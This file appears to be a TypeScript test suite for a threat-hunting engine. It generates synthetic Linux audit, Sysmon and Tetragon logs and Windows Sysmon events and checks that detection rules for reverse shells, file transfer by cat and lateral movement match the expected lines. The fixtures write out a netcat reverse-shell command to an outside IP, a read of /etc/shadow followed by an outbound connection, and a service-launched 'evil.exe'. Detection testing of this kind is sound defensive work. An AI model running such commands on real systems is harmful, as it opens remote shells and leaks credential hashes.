import { writeFileSync } from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import { runRule } from "../../src/hunt/run-rule.ts";
import { toTask } from "../../src/hunt/rule-task.ts";
import { readPack } from "../../src/rules/read-pack.ts";
import { EventReader } from "../../src/store/events.ts";
import { describeShared, shared } from "../shared.ts";
import { tempFolder } from "../temp-folder.ts";
import { loadCase, openWholeCase } from "./load-case.ts";

const EVERYTHING = { from: null, to: null, respectIndex: false, maxFindings: 0 };

/** By the name of each public rule, the physical lines of the events of each of its matches over one file. */
async function found(name: string, content: string, rules: readonly string[]): Promise<Record<string, number[][]>> {
  const file = path.join(tempFolder(), name);
  writeFileSync(file, content);
  const engine = await openWholeCase(await loadCase([file]));
  try {
    const places = new EventReader(engine.file);
    return Object.fromEntries(
      rules.map((rule) => {
        const pack = readPack([shared("corpus/detection-rules/rules", `${rule}.toml`)]);
        const [parsed] = pack.rules;
        if (parsed === undefined) throw new Error(`${rule} is no rule`);
        const { matches, outcome, reason } = runRule(engine, toTask(parsed), EVERYTHING);
        if (outcome !== "hit" && outcome !== "none") throw new Error(`${rule}: ${outcome}: ${reason ?? ""}`);
        return [
          rule,
          matches.map(({ events }) => events.map((id) => (id === null ? 0 : (places.position(id)?.line ?? 0)))),
        ];
      }),
    );
  } finally {
    engine.close();
  }
}

const INTERPRETER = "linux/execution_shell_via_lolbin_interpreter_linux";
const CAT = "linux/command_and_control_cat_network_activity";
const UDP = "linux/execution_shell_via_udp_cli_utility_linux";

/** A shell starts netcat, which calls out; another netcat only listens; cat sends a file to the network. */
interface Act {
  readonly second: number;
  readonly pid: number;
  readonly ppid: number;
  readonly program: string;
  readonly parent: string;
  /** Of an execution. */
  readonly args?: readonly string[];
  /** Of a connection. */
  readonly to?: string;
}
const nc = { pid: 500, ppid: 400, program: "nc", parent: "bash" };
const listener = { pid: 501, ppid: 400, program: "nc", parent: "bash" };
const cat = { pid: 502, ppid: 400, program: "cat", parent: "bash" };
const ACTS: readonly Act[] = [
  { second: 0, pid: 400, ppid: 1, program: "bash", parent: "systemd", args: ["bash"] },
  { ...nc, second: 1, args: ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"] },
  { ...listener, second: 1, args: ["nc", "-l", "9999"] },
  { ...listener, second: 1, to: "198.51.100.7" },
  { ...nc, second: 1, to: "127.0.0.1" },
  { ...nc, second: 1, to: "45.33.32.156" },
  { ...cat, second: 10, args: ["cat", "/etc/shadow"] },
  { ...cat, second: 11, to: "45.33.32.156" },
  { ...cat, second: 30, to: "45.33.32.156" },
];

const TIME = 1714557600;
const octets = (ip: string): string =>
  ip
    .split(".")
    .map((part) => Number(part).toString(16).padStart(2, "0"))
    .join("");

function auditLog(acts: readonly Act[], enriched: boolean): string {
  return acts
    .map(({ second, pid, ppid, program, args, to }, index) => {
      const head = `msg=audit(${String(TIME + second)}.${String(100 + index)}:${String(100 + index)}):`;
      const [number, name] = to === undefined ? [59, "execve"] : [42, "connect"];
      const names = enriched ? `\x1dARCH=x86_64 SYSCALL=${name} AUID="alice" UID="www-data" GID="www-data"` : "";
      const call = `type=SYSCALL ${head} arch=c000003e syscall=${String(number)} success=yes exit=0 a0=3 items=0 ppid=${String(ppid)} pid=${String(pid)} auid=1000 uid=33 gid=33 ses=7 comm="${program}" exe="/usr/bin/${program}" key="x"${names}\n`;
      const list = (args ?? []).map((value, at) => `a${String(at)}="${value}"`).join(" ");
      return to === undefined
        ? `${call}type=EXECVE ${head} argc=${String(args?.length ?? 0)} ${list}\n`
        : `${call}type=SOCKADDR ${head} saddr=0200115C${octets(to).toUpperCase()}0000000000000000${enriched ? "\x1dSADDR={ }" : ""}\n`;
    })
    .join("");
}

const iso = (second: number, index: number): string =>
  `${new Date((TIME + second) * 1000).toISOString().slice(0, 19)}.${String(100 + index)}000000Z`;

function sysmonLog(acts: readonly Act[]): string {
  return acts
    .map(({ second, pid, ppid, program, parent, args, to }, index) => {
      const data: Record<string, string> = {
        ProcessGuid: `{94325212-f5aa-627b-082b-0000000${String(pid)}}`,
        ProcessId: String(pid),
        Image: `/usr/bin/${program}`,
        User: "www-data",
        ...(to === undefined
          ? {
              CommandLine: args?.join(" ") ?? "",
              ParentProcessGuid: `{94325212-f5aa-627b-082b-0000000${String(ppid)}}`,
              ParentImage: `/usr/bin/${parent}`,
            }
          : { Protocol: "tcp", Initiated: "true", DestinationIp: to, DestinationPort: "4444" }),
      };
      const fields = Object.entries(data).map(([name, value]) => `<Data Name="${name}">${value}</Data>`);
      return `May  1 10:00:00 web sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>${to === undefined ? "1" : "3"}</EventID><TimeCreated SystemTime="${iso(second, index)}"/><Computer>web</Computer></System><EventData>${fields.join("")}</EventData></Event>\n`;
    })
    .join("");
}

function tetragonLog(acts: readonly Act[]): string {
  return acts
    .map(({ second, pid, ppid, program, parent, args, to }, index) => {
      const process = {
        exec_id: `p${String(pid)}`,
        pid,
        uid: 33,
        binary: `/usr/bin/${program}`,
        arguments: args?.slice(1).join(" ") ?? "",
        flags: "execve clone",
      };
      const by = { exec_id: `p${String(ppid)}`, pid: ppid, binary: `/usr/bin/${parent}` };
      const body =
        to === undefined
          ? { process_exec: { process, parent: by } }
          : {
              process_kprobe: {
                process,
                parent: by,
                function_name: "tcp_connect",
                args: [{ sock_arg: { family: "AF_INET", daddr: to, dport: 4444 } }],
              },
            };
      return `${JSON.stringify({ ...body, node_name: "node1", time: iso(second, index) })}\n`;
    })
    .join("");
}

describeShared("a reverse shell and a transfer by cat, found by the public rules", () => {
  const lines = (perEvent: number, ...numbers: number[]): number[] =>
    numbers.map((number) => (number - 1) * perEvent + 1);
  test.each<[string, string, number]>([
    ["audit.log", auditLog(ACTS, false), 2],
    ["enriched-audit.log", auditLog(ACTS, true), 2],
    ["syslog", sysmonLog(ACTS), 1],
    ["tetragon.json", tetragonLog(ACTS), 1],
  ])("%s", async (name, content, perEvent) => {
    expect(await found(name, content, [INTERPRETER, CAT])).toEqual({
      [INTERPRETER]: [lines(perEvent, 2, 6)],
      [CAT]: [lines(perEvent, 7, 8)],
    });
  });

  test("audit.log with a datagram socket, by a sample", async () => {
    const socket =
      auditLog([{ ...nc, second: 1, to: "x.x.x.x" }], false)
        .split("\n", 1)[0]
        ?.replace("syscall=42", "syscall=41")
        .replace("a0=3", "a0=2 a1=2")
        .replaceAll(":100)", ":900)") ?? "";
    expect(await found("audit.log", `${auditLog(ACTS, false)}${socket}\n`, [UDP])).toEqual({ [UDP]: [[3, 19, 11]] });
  });
});

const WMI = "windows/lateral_movement_incoming_wmi";
const SERVICE = "windows/lateral_movement_remote_services";

/** Sysmon events of a host that is reached by WMI, and on which a service is then started from afar. */
const SYSMON: readonly (readonly [id: number, second: number, data: Record<string, string>])[] = [
  [
    3,
    0,
    {
      Image: "C:\\Windows\\System32\\svchost.exe",
      ProcessGuid: "{5770385f-c22a-43e0-bf4c-000000000001}",
      ProcessId: "4",
      Protocol: "tcp",
      Initiated: "false",
      SourceIp: "10.0.0.9",
      SourcePort: "51000",
      DestinationIp: "10.0.0.5",
      DestinationPort: "135",
    },
  ],
  [
    1,
    1,
    {
      Image: "C:\\Windows\\System32\\cmd.exe",
      ProcessGuid: "{5770385f-c22a-43e0-bf4c-000000000002}",
      ProcessId: "8",
      CommandLine: "cmd.exe",
      IntegrityLevel: "Medium",
      ParentImage: "C:\\Windows\\explorer.exe",
      User: "CORP\\alice",
    },
  ],
  [
    1,
    2,
    {
      Image: "C:\\Windows\\System32\\cmd.exe",
      ProcessGuid: "{5770385f-c22a-43e0-bf4c-000000000003}",
      ProcessId: "12",
      CommandLine: "cmd.exe /c whoami",
      IntegrityLevel: "High",
      ParentImage: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
      User: "CORP\\bob",
    },
  ],
  [
    3,
    40,
    {
      Image: "C:\\Windows\\System32\\services.exe",
      ProcessGuid: "{5770385f-c22a-43e0-bf4c-000000000004}",
      ProcessId: "16",
      Protocol: "tcp",
      Initiated: "false",
      SourceIp: "10.0.0.9",
      SourcePort: "51001",
      DestinationIp: "10.0.0.5",
      DestinationPort: "49700",
    },
  ],
  [
    1,
    40,
    {
      Image: "C:\\Windows\\Temp\\evil.exe",
      ProcessGuid: "{5770385f-c22a-43e0-bf4c-000000000005}",
      ProcessId: "20",
      CommandLine: "evil.exe",
      IntegrityLevel: "System",
      ParentProcessGuid: "{5770385f-c22a-43e0-bf4c-000000000004}",
      ParentProcessId: "16",
      ParentImage: "C:\\Windows\\System32\\services.exe",
      User: "NT AUTHORITY\\SYSTEM",
    },
  ],
];
const CHANNEL = "Microsoft-Windows-Sysmon/Operational";
const PROVIDER = "Microsoft-Windows-Sysmon";
const COMPUTER = "ws5.corp";

describeShared("lateral movement in Sysmon's events, found by the public rules", () => {
  const utc = (second: number, index: number): string => iso(second, index).replace("T", " ").slice(0, 23);
  test.each<[string, (id: number, time: string, data: Record<string, string>) => unknown]>([
    [
      "NXLog",
      (id, time, data) => ({
        EventID: id,
        Channel: CHANNEL,
        SourceName: PROVIDER,
        Hostname: COMPUTER,
        UtcTime: time,
        ...data,
      }),
    ],
    [
      "Winlogbeat 6",
      (id, time, data) => ({
        event_id: id,
        log_name: CHANNEL,
        source_name: PROVIDER,
        computer_name: COMPUTER,
        event_data: { UtcTime: time, ...data },
      }),
    ],
    [
      "Winlogbeat 7",
      (id, time, data) => ({
        winlog: {
          event_id: id,
          channel: CHANNEL,
          provider_name: PROVIDER,
          computer_name: COMPUTER,
          event_data: { UtcTime: time, ...data },
        },
      }),
    ],
    [
      "evtx_dump",
      (id, time, data) => ({
        Event: {
          System: {
            Provider: { "#attributes": { Name: PROVIDER } },
            EventID: id,
            Channel: CHANNEL,
            Computer: COMPUTER,
          },
          EventData: { UtcTime: time, ...data },
        },
      }),
    ],
    [
      "Hayabusa's JSONL",
      (id, time, data) => ({
        EventID: id,
        Channel: CHANNEL,
        Computer: COMPUTER,
        Provider_Name: PROVIDER,
        UtcTime: time,
        ...data,
      }),
    ],
  ])("%s", async (_name, wrap) => {
    const content = SYSMON.map(
      ([id, second, data], index) => `${JSON.stringify(wrap(id, utc(second, index), data))}\n`,
    ).join("");
    expect(await found("dump.json", content, [WMI, SERVICE])).toEqual({ [WMI]: [[1, 3]], [SERVICE]: [[4, 5]] });
  });
});
